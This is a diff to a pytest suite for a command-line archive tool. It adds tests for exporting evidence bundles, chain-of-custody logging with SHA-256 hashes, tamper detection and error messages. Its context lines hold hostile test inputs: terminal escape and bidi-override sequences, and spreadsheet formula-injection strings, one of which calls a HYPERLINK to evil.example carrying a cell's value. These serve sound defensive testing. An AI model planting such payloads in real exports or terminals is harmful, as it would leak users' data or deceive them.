@@ -4,11 +4,14 @@ from __future__ import annotations
 
 import asyncio
 import csv
+import getpass
+import hashlib
 import io
 import json
 import os
 import subprocess
 import sys
+import zipfile
 from collections.abc import Iterator
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
@@ -16,6 +19,7 @@ from typing import Any
 
 import pytest
 
+from alerts.evidence import EvidenceStore
 from alerts.store import TEMPLATE_FILE as ALERTS_TEMPLATE
 from processors.archive import TEMPLATE_FILE as ITEMS_TEMPLATE
 from processors.archive import to_document
@@ -31,6 +35,8 @@ Env = dict[str, str]
 Capture = pytest.CaptureFixture[str]
 ITEMS = "cliarchive-items"
 ALERTS = "cliarchive-alerts"
+EVIDENCE = "cliarchive-evidence"
+CUSTODY = "cliarchive-custody"
 T0 = datetime(2026, 10, 1, tzinfo=UTC)
 HOSTILE_TITLE = "\x1b[31mRED\x1b[0m \x1b]0;pwned\x07 \u202eevil\u202c \x9b2J\rover\x08 written"
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1"]
@@ -78,6 +84,11 @@ def make_alerts() -> list[Alert]:
     ]
 
 
+def evidence_settings(search: SearchSettings) -> SearchSettings:
+    return search.model_copy(update={"items_index": ITEMS, "alerts_index": ALERTS, "evidence_index": EVIDENCE,
+                                     "custody_index": CUSTODY})
+
+
 @pytest.fixture(scope="module")
 def archive(search_settings: SearchSettings) -> SearchSettings:
     async def seed() -> None:
@@ -90,6 +101,8 @@ def archive(search_settings: SearchSettings) -> SearchSettings:
                 assert not await bulk_index(es, ITEMS, docs[start:start + 1000], refresh=True)
             alerts = [(a.id, a.model_dump(mode="json")) for a in make_alerts()]
             assert not await bulk_index(es, ALERTS, alerts, refresh=True)
+            frozen = await EvidenceStore(es, evidence_settings(search_settings)).freeze(make_alerts()[0])
+            assert [item.item_id for item in frozen.frozen] == ["item-00001"]
         finally:
             await es.close()
 
@@ -101,6 +114,7 @@ def archive(search_settings: SearchSettings) -> SearchSettings:
 def env(archive: SearchSettings, monkeypatch: pytest.MonkeyPatch) -> Iterator[dict[str, str]]:
     values = {"TOCSIN_SEARCH__URL": archive.url, "TOCSIN_SEARCH__NODE_CLASS": archive.node_class,
               "TOCSIN_SEARCH__ITEMS_INDEX": ITEMS, "TOCSIN_SEARCH__ALERTS_INDEX": ALERTS,
+              "TOCSIN_SEARCH__EVIDENCE_INDEX": EVIDENCE, "TOCSIN_SEARCH__CUSTODY_INDEX": CUSTODY,
               "COLUMNS": "200"}
     for key, value in values.items():
         monkeypatch.setenv(key, value)
@@ -247,6 +261,60 @@ def test_export_to_standard_output(env: Env, capsys: Capture) -> None:
     assert code == 0, err
     ids = {json.loads(line)["id"] for line in out.splitlines()}
     assert ids == expected(lambda d: d["lang"] == "ar" and d["country"] == "KE")
+
+
+# ----------------------------------------------------------------- evidence
+
+
+def test_evidence_bundle_is_exported_logged_and_verifies(env: Env, capsys: Capture, tmp_path: Path) -> None:
+    bundle = tmp_path / "bundle.zip"
+    code, _, err = run(capsys, "export", "--evidence", "a-sd", "-o", str(bundle))
+    assert code == 0, err
+    assert "logged as exported by" in err
+    code, out, err = run(capsys, "evidence", "verify", str(bundle))
+    assert code == 0, err
+    assert "OK: alert a-sd, 1 item(s) verified" in out
+
+    async def custody() -> list[Any]:
+        settings = evidence_settings(SearchSettings(url=env["TOCSIN_SEARCH__URL"],
+                                                    node_class=env["TOCSIN_SEARCH__NODE_CLASS"]))
+        es = search_client(settings)
+        try:
+            return await EvidenceStore(es, settings).custody("a-sd")
+        finally:
+            await es.close()
+
+    last = asyncio.run(custody())[-1]
+    assert last.action == "exported" and last.actor == getpass.getuser()
+    assert hashlib.sha256(bundle.read_bytes()).hexdigest() in last.detail
+
+
+def test_a_tampered_bundle_fails_verification(env: Env, capsys: Capture, tmp_path: Path) -> None:
+    bundle, tampered = tmp_path / "bundle.zip", tmp_path / "tampered.zip"
+    assert run(capsys, "export", "--evidence", "a-sd", "-o", str(bundle))[0] == 0
+    with zipfile.ZipFile(bundle) as source, zipfile.ZipFile(tampered, "w") as target:
+        for info in source.infolist():
+            data = source.read(info)
+            if info.filename.startswith("items/"):
+                data = data.replace(b"line one", b"line 1!!")
+            target.writestr(info, data)
+    code, out, _ = run(capsys, "evidence", "verify", str(tampered))
+    assert code == 1 and "FAILED" in out and "does not match" in out
+
+
+@pytest.mark.parametrize("argv, code, message", [
+    (["export", "--evidence", "no-such-alert", "-o", "x.zip"], 1, "no evidence has been frozen"),
+    (["export", "--evidence", "a-sd", "--country", "SD", "-o", "x.zip"], 2, "takes no item filters"),
+    (["export", "--evidence", "a-sd", "-o", "-"], 2, "an evidence bundle is a zip file"),
+    (["evidence", "verify", "/nonexistent/bundle.zip"], 2, "no such file"),
+])
+def test_evidence_mistakes_are_clear(env: Env, capsys: Capture, tmp_path: Path,
+                                     monkeypatch: pytest.MonkeyPatch, argv: list[str], code: int,
+                                     message: str) -> None:
+    monkeypatch.chdir(tmp_path)
+    got, _, err = run(capsys, *argv)
+    assert got == code and message in err
+    assert not (tmp_path / "x.zip").exists()
 
 
 # ------------------------------------------------------------- bad input
